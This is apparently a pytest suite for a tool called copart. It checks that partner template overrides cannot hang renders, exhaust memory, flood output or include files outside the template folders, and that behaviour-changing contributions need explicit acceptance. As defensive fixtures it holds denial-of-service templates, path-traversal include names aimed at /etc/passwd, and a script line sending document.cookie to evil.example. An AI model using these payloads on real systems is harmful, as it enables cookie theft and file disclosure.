"""Template overrides are code a partner pushes: every render is bounded, reads nothing outside
the template folders, and a change to them is accepted only on purpose.

Each test is one attack through the real CLI: a hostile override in .copart/templates/ and the
check that the command stops with one line (exit 1), fast, and leaves nothing half-written.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

QUICK = {"COPART_TEMPLATE_SECONDS": "2"}  # the user's own setting: keeps the hang tests short


def _override(rep: Path, name: str, text: str) -> None:
    path = rep / ".copart" / "templates" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def _stopped(r, *words: str) -> None:
    assert r.code == 1, r
    lines = r.stderr.splitlines()
    assert lines and lines[0].startswith("copart: error: ") and all(w in lines[0] for w in words), r
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr, r


def test_a_nested_range_loop_is_stopped_and_the_previous_site_stays(alice, sample, world):
    out = world.base / "out"
    assert alice.copart("site", str(out), cwd=sample).ok
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    _override(sample, "site/entry.html",
              "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")
    started = time.monotonic()
    r = alice.copart("site", str(out), cwd=sample, env=QUICK, timeout=60)
    assert time.monotonic() - started < 30
    _stopped(r, ".copart/templates/site/entry.html", "ran longer than 2 s", "stopped")
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in world.base.iterdir() if p.name.startswith(".out")) == []


def test_many_slow_pages_are_stopped_by_the_sites_budget(alice, sample, world):
    # each page well inside the per-page limit, but the whole site would run for minutes
    _override(sample, "site/entry.html",
              "{% for i in range(100000) %}{% for j in range(100) %}{% endfor %}{% endfor %}")
    started = time.monotonic()
    r = alice.copart("site", str(world.base / "out"), cwd=sample, timeout=60,
                     env={"COPART_TEMPLATE_SECONDS": "30", "COPART_TEMPLATE_TOTAL_SECONDS": "3"})
    assert time.monotonic() - started < 30
    _stopped(r, "ran longer than 3 s in all", "stopped")
    assert not (world.base / "out").exists()


@pytest.mark.parametrize("expression,words", [
    ("'x' * 4000000000", ["'*' would make 4000000000 items"]),
    ("[0] * 4000000000", ["'*' would make 4000000000 items"]),
    ("2 ** 100000000", ["'**' would make a number"]),
    ("'x'.ljust(4000000000)", ["needed more than", "of memory"]),
], ids=["string", "list", "power", "ljust"])
def test_a_huge_value_is_refused_not_a_crash(alice, sample, expression, words):
    _override(sample, "digest/digest.md", "{{ %s }}\n" % expression)
    started = time.monotonic()
    r = alice.copart("digest", cwd=sample, timeout=60)
    assert time.monotonic() - started < 30
    _stopped(r, *words)
    assert not r.stdout  # no half of a digest


def test_a_flood_of_output_is_stopped(alice, sample):
    _override(sample, "digest/digest.md", "{% for i in range(100000) %}{{ 'y' * 1000 }}{% endfor %}")
    r = alice.copart("digest", cwd=sample, timeout=60)
    _stopped(r, "made more than 16 MiB of output")
    assert not r.stdout


@pytest.mark.parametrize("name", ["../../../../../../etc/passwd", "/etc/passwd", "site/../../../copart.yaml"])
def test_an_include_cannot_reach_outside_the_template_folders(alice, sample, world, name):
    _override(sample, "site/home.html", '{%% extends "site/base.html" %%}{%% block main %%}'
                                        '{%% include "%s" %%}{%% endblock %%}' % name)
    out = world.base / "out"
    r = alice.copart("site", str(out), cwd=sample)
    _stopped(r, f"template '{name}' not found")
    assert "root:" not in r.stdout + r.stderr
    assert not out.exists()


@pytest.mark.parametrize("path,text", [
    (".copart/templates/site/base.html", "<!doctype html><script>fetch('https://evil.example/?'+document.cookie)"
                                         "</script>{% block main %}{% endblock %}"),
    ("copart.yaml", None),  # the partner switches review off
    (".gitattributes", "*.md merge=union\n"),
], ids=["template-without-csp", "review-off", "gitattributes"])
def test_a_change_to_how_copart_behaves_is_accepted_only_on_purpose(world, path, text):
    from tests.review_helpers import community

    c = community(world)
    anjali, judith, prep, crep = c.anjali, c.judith, c.partner_rep, c.coord_rep
    branch = "contrib/apatel/tweak/v1"  # crafted with git, signed by her own key, as the hub asks
    anjali.git("checkout", "-q", "-b", branch, cwd=prep)
    target = prep / path
    target.parent.mkdir(parents=True, exist_ok=True)
    if text is None:
        text = target.read_text().replace("review: coordinators", "review: open")
    target.write_text(text)
    anjali.git("add", "-A", cwd=prep)
    anjali.git("commit", "-q", "-S", "-m", "a small tweak\n\nCopart-Contribution: apatel/tweak\nCopart-Version: 1",
               cwd=prep)  # the trailers the hub asks of a contribution's commits
    anjali.git("push", "-q", "origin", branch, cwd=prep)
    c.sync(judith, crep)
    key = "apatel/tweak"
    shown = judith.copart("review", "show", key, cwd=crep)
    assert "changes to how copart behaves" in shown.stdout and f"  {path}" in shown.stdout, shown
    assert judith.copart("review", "show", key, "--json", cwd=crep).json()["behaviour"] == [path]
    main = judith.git("rev-parse", "main", cwd=crep)
    for extra in ([], ["--ignore-checks"]):
        r = judith.copart("review", "accept", key, *extra, cwd=crep)
        assert r.code == 4 and "changes how copart behaves" in r.stderr and "--allow-config" in r.stderr, r
    assert judith.git("rev-parse", "main", cwd=crep) == main
    r = judith.copart("review", "accept", key, "--allow-config", cwd=crep)
    assert r.ok, r  # read, and taken on purpose
